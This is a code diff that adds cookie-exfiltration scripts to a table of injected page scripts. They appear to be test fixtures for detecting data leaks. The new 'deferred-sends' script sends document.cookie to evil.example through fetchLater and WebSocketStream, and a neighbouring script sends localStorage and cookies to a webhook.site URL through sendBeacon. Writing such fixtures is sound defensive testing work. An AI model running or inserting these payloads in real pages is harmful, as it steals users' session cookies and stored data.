@@ -380,6 +380,25 @@ export const MAIN_WORLD_SCRIPTS = {
   window.__pinged = true;
 })();`,
 
+  /**
+   * The cookie sent by Chromium's newer channels where the browser has them: a deferred fetch (`fetchLater`,
+   * sent once `activateAfter` passes or the page is left; a Request, and a URL with an init) and a
+   * WebSocketStream (its connection fails here: the attempt is what counts).
+   */
+  'deferred-sends': `(() => {
+  const c = encodeURIComponent(document.cookie);
+  if (typeof fetchLater === 'function') {
+    fetchLater(new Request('https://evil.example/later-request?c=' + c, { method: 'POST', body: c }));
+    fetchLater('https://evil.example/later-init?c=' + c, { method: 'POST', body: c, activateAfter: 0 });
+  }
+  if (typeof WebSocketStream === 'function') {
+    const stream = new WebSocketStream('wss://evil.example/stream?c=' + c);
+    stream.opened.catch(() => {});
+    stream.closed.catch(() => {});
+  }
+  window.__deferred = true;
+})();`,
+
   /** Leaks storage by sendBeacon to a webhook site. */
   'beacon-storage': `navigator.sendBeacon('https://webhook.site/5c1a-test', JSON.stringify({ ...localStorage, cookie: document.cookie }));`,
 
